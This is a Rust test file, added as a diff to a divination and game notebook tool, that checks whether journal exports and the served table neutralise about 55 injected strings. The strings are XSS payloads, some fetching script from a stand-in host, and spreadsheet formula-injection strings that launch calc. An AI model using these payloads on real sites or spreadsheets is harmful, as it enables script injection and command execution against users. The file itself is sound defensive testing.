@@ -1,0 +1,312 @@
+//! Texts that would be programs, links or formulas elsewhere, in every text of every export and of the table.
+//!
+//! Each record is exported twice: with the payload as its texts, and with a harmless text of the same length. Opened in Chromium,
+//! the page and the picture with the payload consist of the same elements as the harmless ones, nothing in them runs, nothing is
+//! fetched, and no policy had to prevent it. So it is with the table. A cell for a spreadsheet begins no formula, Markdown has no
+//! element or link more, and JSON has the text as it was given.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::thread;
+
+use serde_json::Value;
+
+use crate::chromium::Chromium;
+use crate::figure::{Figure, Run};
+use crate::notebook::Notebook;
+use crate::program::Program;
+
+pub(crate) const FIGURE: Figure =
+    Figure { number: 10, name: "payloads", protections: &["escaping", "policy"], measure };
+
+/// What leaves a mark where it runs: `RAN` becomes 1, or the address `http://enochian.invalid/` is asked for.
+const PAYLOADS: &[&str] = &[
+    "<script>RAN=1</script>",
+    "</script><script>RAN=1</script>",
+    "</title><script>RAN=1</script>",
+    "</style><script>RAN=1</script>",
+    "</textarea><script>RAN=1</script>",
+    "--><script>RAN=1</script>",
+    "]]><script>RAN=1</script>",
+    "\"><script>RAN=1</script>",
+    "'><script>RAN=1</script>",
+    "<script src=http://enochian.invalid/x.js></script>",
+    "<img src=x onerror=RAN=1>",
+    "<img src=http://enochian.invalid/x.png>",
+    "\" onmouseover=RAN=1 autofocus onfocus=RAN=1 x=\"",
+    "' onload='RAN=1' x='",
+    "<svg onload=RAN=1>",
+    "<svg><script>RAN=1</script></svg>",
+    "<svg><use href=http://enochian.invalid/x.svg#x />",
+    "<math><mtext><style><img src=x onerror=RAN=1></style>",
+    "<iframe srcdoc='<script>parent.RAN=1</script>'>",
+    "<iframe src=javascript:parent.RAN=1>",
+    "<object data=http://enochian.invalid/x>",
+    "<embed src=http://enochian.invalid/x>",
+    "<link rel=stylesheet href=http://enochian.invalid/x.css>",
+    "<base href=http://enochian.invalid/>",
+    "<meta http-equiv=refresh content='0;url=http://enochian.invalid/'>",
+    "<form action=http://enochian.invalid/><input autofocus onfocus=RAN=1>",
+    "<details open ontoggle=RAN=1>",
+    "<video><source onerror=RAN=1></video>",
+    "<body onload=RAN=1>",
+    "<style>@import 'http://enochian.invalid/x.css';</style>",
+    "</style><style>*{background:url(http://enochian.invalid/x)}",
+    ";background:url(http://enochian.invalid/x);x:",
+    "javascript:RAN=1",
+    "[link](javascript:RAN=1)",
+    "![image](http://enochian.invalid/x.png)",
+    "<javascript:RAN=1>",
+    "[x]: javascript:RAN=1",
+    "`<b>`</code><script>RAN=1</script>",
+    "&lt;script&gt;RAN=1&lt;/script&gt;",
+    "&#60;script&#62;RAN=1&#60;/script&#62;",
+    "\\u003cscript\\u003eRAN=1\\u003c/script\\u003e",
+    "\\x3cscript\\x3eRAN=1\\x3c/script\\x3e",
+    "{{ 7*7 }}{% raw %}<script>RAN=1</script>",
+    "${RAN=1}`${RAN=1}`",
+    "\";RAN=1;//",
+    "';RAN=1;//",
+    "\\\";RAN=1;//",
+    "<!--<script>RAN=1",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://enochian.invalid/\",\"x\")",
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\"\n=1+1",
+    "＝1+1",
+];
+
+/// The journals of a notebook, by the part of their names by which a command finds them, and the formats of their exports.
+const JOURNALS: [(&str, &[&str]); 4] = [
+    ("reading", &["html", "svg", "markdown", "csv", "json", "sheet"]),
+    ("game", &["html", "svg", "markdown", "csv", "json", "sheet"]),
+    ("three", &["html", "svg", "markdown", "csv", "json"]),
+    ("other", &["html", "markdown", "csv", "json"]),
+];
+
+fn measure(run: &Run) -> String {
+    let Some(_) = Chromium::start() else { return "no Chromium is installed, so that nothing was tried".into() };
+    let weakened = run.is_without("escaping") || run.is_without("policy");
+    let every = if weakened { PAYLOADS.len() } else { run.times(11, 1) as usize };
+    let tried: Vec<&str> = PAYLOADS.iter().copied().step_by(every).collect();
+    let of_part = |part: usize| -> u64 {
+        let Some(mut browser) = Chromium::start() else { return 0 };
+        let mine = tried.iter().enumerate().skip(part).step_by(2);
+        mine.map(|(number, payload)| Tried { payload, number, run }.does_nothing(&mut browser)).sum()
+    };
+    let pages = thread::scope(|scope| {
+        let other = scope.spawn(|| of_part(1));
+        of_part(0) + other.join().unwrap()
+    });
+    format!(
+        "{} payloads in {pages} exports and pages of the table, opened in Chromium: nothing ran, and nothing was fetched",
+        tried.len()
+    )
+}
+
+struct Tried<'p> {
+    payload: &'p str,
+    number: usize,
+    run: &'p Run,
+}
+
+impl Tried<'_> {
+    /// A text of the same length in which nothing means anything. It has no more places at which a line can be broken.
+    fn harmless(&self) -> String {
+        self.payload.chars().map(|c| if c.is_ascii_punctuation() { 'x' } else { c }).collect()
+    }
+
+    fn fails(&self, page: &str, why: &str) -> ! {
+        panic!("{:?} (payload {}) in {page}: {why}", self.payload, self.number)
+    }
+
+    /// Returns the number of exports and pages that were looked at.
+    fn does_nothing(&self, browser: &mut Chromium) -> u64 {
+        let (wicked, harmless) = (notebook_with(self.payload), notebook_with(&self.harmless()));
+        let mut looked_at = 0;
+        for (journal, formats) in JOURNALS {
+            for format in formats {
+                let page = format!("the {format} of {journal}");
+                let [found, right] = [&wicked, &harmless].map(|notebook| {
+                    let file = notebook.path(&format!("{journal}.{format}"));
+                    let out = file.to_str().unwrap().to_owned();
+                    let output = notebook.run(&["journal", "export", journal, "--format", format, "--out", &out], "");
+                    assert!(output.status.success(), "{page}: {}", String::from_utf8_lossy(&output.stderr));
+                    file
+                });
+                match *format {
+                    "html" | "svg" => self.does_nothing_on_a_page(browser, &page, &found, &right),
+                    "markdown" => self.is_plain_in_markdown(&page, &found, &right),
+                    "csv" => self.is_no_formula(&page, &found),
+                    "json" => self.is_kept(&page, &found),
+                    _ => {}
+                }
+                looked_at += 1;
+            }
+        }
+        let table = Program::start(wicked.folder());
+        let addresses = JOURNALS.map(|(journal, _)| format!("#journal={journal}"));
+        for hash in ["", "#search", "#game", "#games"].into_iter().map(str::to_owned).chain(addresses) {
+            browser.visit(&format!("{}{hash}", table.address));
+            browser.becomes("document.querySelectorAll('main *, body *').length > 5", true);
+            browser.awaited("new Promise(done => setTimeout(done, 200))");
+            self.is_idle(browser, &format!("the table {hash}"), &table.address);
+            looked_at += 1;
+        }
+        looked_at
+    }
+
+    /// The page is made of what the harmless one is made of, and does nothing.
+    fn does_nothing_on_a_page(&self, browser: &mut Chromium, page: &str, found: &Path, right: &Path) {
+        if page.starts_with("the html") {
+            self.weaken(found);
+        }
+        browser.open(right, "");
+        let elements = elements(browser);
+        browser.open(found, "");
+        browser.awaited("new Promise(done => setTimeout(done, 50))");
+        self.is_idle(browser, page, "file:");
+        let more = self::elements(browser);
+        if more != elements {
+            let differ = more.iter().find(|(name, count)| elements.get(*name) != Some(count));
+            self.fails(page, &format!("the text became elements of the page: {differ:?}"));
+        }
+        // A link would have to be clicked.
+        let links = "[...document.querySelectorAll('a')].map(a => a.getAttribute('href') ?? a.href.baseVal ?? '')\
+                     .filter(href => !href.startsWith('#')).join(' ')";
+        let links = browser.js(links);
+        if links != "" {
+            self.fails(page, &format!("there are links: {links}"));
+        }
+    }
+
+    /// Undoes in a page what is to be taken away.
+    fn weaken(&self, page: &Path) {
+        let mut html = fs::read_to_string(page).unwrap();
+        if self.run.is_without("policy") {
+            html = html.replace("Content-Security-Policy", "Nothing");
+        }
+        if self.run.broken.is_some() {
+            for (written, meant) in [("&lt;", "<"), ("&gt;", ">"), ("&#x2f;", "/"), ("&quot;", "\""), ("&#x27;", "'")] {
+                html = html.replace(written, meant);
+            }
+        }
+        fs::write(page, html).unwrap();
+    }
+
+    fn is_idle(&self, browser: &mut Chromium, page: &str, own: &str) {
+        if browser.js("typeof RAN") != "undefined" {
+            self.fails(page, "it ran");
+        }
+        let requests: Vec<String> = browser.requests();
+        let foreign =
+            requests.iter().find(|url| !url.trim_matches('"').starts_with(own) && !url.starts_with("\"data:"));
+        if let Some(url) = foreign {
+            self.fails(page, &format!("{url} was asked for"));
+        }
+        let complaints = browser.complaints();
+        if !complaints.is_empty() {
+            self.fails(page, &format!("the browser complains: {complaints:?}"));
+        }
+    }
+
+    /// Nothing that begins an element, a link or an image, beyond what is there without it.
+    fn is_plain_in_markdown(&self, page: &str, found: &Path, right: &Path) {
+        let [found, right] = [found, right].map(|file| fs::read_to_string(file).unwrap());
+        for sign in ["<", "](", "![", "]:"] {
+            let unescaped = |text: &str| {
+                let places = text.match_indices(sign).map(|(at, _)| at);
+                places.filter(|at| !text[..*at].ends_with('\\')).count()
+            };
+            if unescaped(&found) != unescaped(&right) {
+                self.fails(page, &format!("{sign} means what it means in Markdown"));
+            }
+        }
+    }
+
+    /// What a spreadsheet shows of a cell is the cell.
+    fn is_no_formula(&self, page: &str, found: &Path) {
+        let mut table = csv::ReaderBuilder::new().has_headers(false).from_path(found).unwrap();
+        for record in table.records() {
+            for cell in &record.unwrap() {
+                let begins = cell.trim_start();
+                if begins.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || cell.contains(char::is_control)
+                {
+                    self.fails(page, &format!("the cell {cell:?} begins a formula"));
+                }
+            }
+        }
+    }
+
+    fn is_kept(&self, page: &str, found: &Path) {
+        let text = fs::read_to_string(found).unwrap();
+        let json: Value = serde_json::from_str(&text).unwrap();
+        let given = self.payload.split('\n').next().unwrap();
+        if !json.to_string().contains(serde_json::to_string(given).unwrap().trim_matches('"')) {
+            self.fails(page, "the text is not kept");
+        }
+    }
+}
+
+/// How many elements of each name a page has, and how many have attributes that run.
+fn elements(browser: &mut Chromium) -> BTreeMap<String, u64> {
+    let counted = browser.js(
+        "(() => { const count = {}; for (const it of document.querySelectorAll('*')) { \
+         const runs = [...it.attributes].filter(a => a.name.startsWith('on')).length; \
+         for (const name of [it.localName, ...Array(runs).fill('on…')]) count[name] = (count[name] ?? 0) + 1; } return count; })()",
+    );
+    counted.as_object().unwrap().iter().map(|(name, count)| (name.clone(), count.as_u64().unwrap())).collect()
+}
+
+/// A notebook with a reading, a game, one of the other games and one of any other kind, and this text wherever a person can give
+/// one.
+fn notebook_with(text: &str) -> Notebook {
+    let notebook = Notebook::new();
+    let line = text.replace('\n', " ");
+    let quoted = serde_json::to_string(&line).unwrap();
+    let keys = ["question", "querent", "source", "known", "supposed", "asked", "term"];
+    let question: String = keys.iter().map(|key| format!("{key} = {quoted}\n")).collect();
+    fs::write(notebook.path("question.toml"), format!("{question}category = \"brother\"\n")).unwrap();
+    let made = |name: &str, arguments: &[&str], input: &str| -> PathBuf {
+        let before = journals(&notebook);
+        let output = notebook.run(arguments, input);
+        let new = journals(&notebook).into_iter().find(|path| !before.contains(path));
+        let told = String::from_utf8_lossy(&output.stderr);
+        let new = new.unwrap_or_else(|| panic!("{text:?}: no {name} was recorded: {told}"));
+        let path = notebook.journals().join(format!("{name}.md"));
+        fs::rename(new, &path).unwrap();
+        path
+    };
+    let players = line.replace(',', ";");
+    let game = ["--title", &line, "--players", &players, "--auto", "--seed", "1", "--limit", "6"];
+    made("reading", &["read", "question.toml", "--auto", "--seed", "1", "--limit", "8"], "");
+    made("game", &[&["game", "--board", "air", "--array", "Air of Air & Water"], &game[..]].concat(), "");
+    made("three", &[&["game", "--kind", "three"], &game[..]].concat(), "");
+    let acts = format!("\n\n{line}\nnote {line}\n{line}\nstop\n");
+    made(
+        "other",
+        &["game", "--kind", "other", "--title", &line, "--seats", "North,South", "--players", &players],
+        &acts,
+    );
+    for (name, _) in JOURNALS {
+        for arguments in [&["journal", "note", name, text][..], &["journal", "note", name, "--turn", "2", text]] {
+            let output = notebook.run(arguments, "");
+            assert!(output.status.success(), "{text:?}, {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
+        }
+        let path = notebook.journals().join(format!("{name}.md"));
+        let mut own = fs::read_to_string(&path).unwrap();
+        own.push_str(&format!("\n{line}\n"));
+        fs::write(&path, own).unwrap();
+    }
+    let output = notebook.run(&["journal", "outcome", "reading", "true", text], "");
+    assert!(output.status.success(), "{text:?}: {}", String::from_utf8_lossy(&output.stderr));
+    notebook
+}
+
+fn journals(notebook: &Notebook) -> Vec<PathBuf> {
+    let files = fs::read_dir(notebook.journals()).unwrap().map(|entry| entry.unwrap().path());
+    files.filter(|path| path.extension().is_some_and(|ending| ending == "md")).collect()
+}
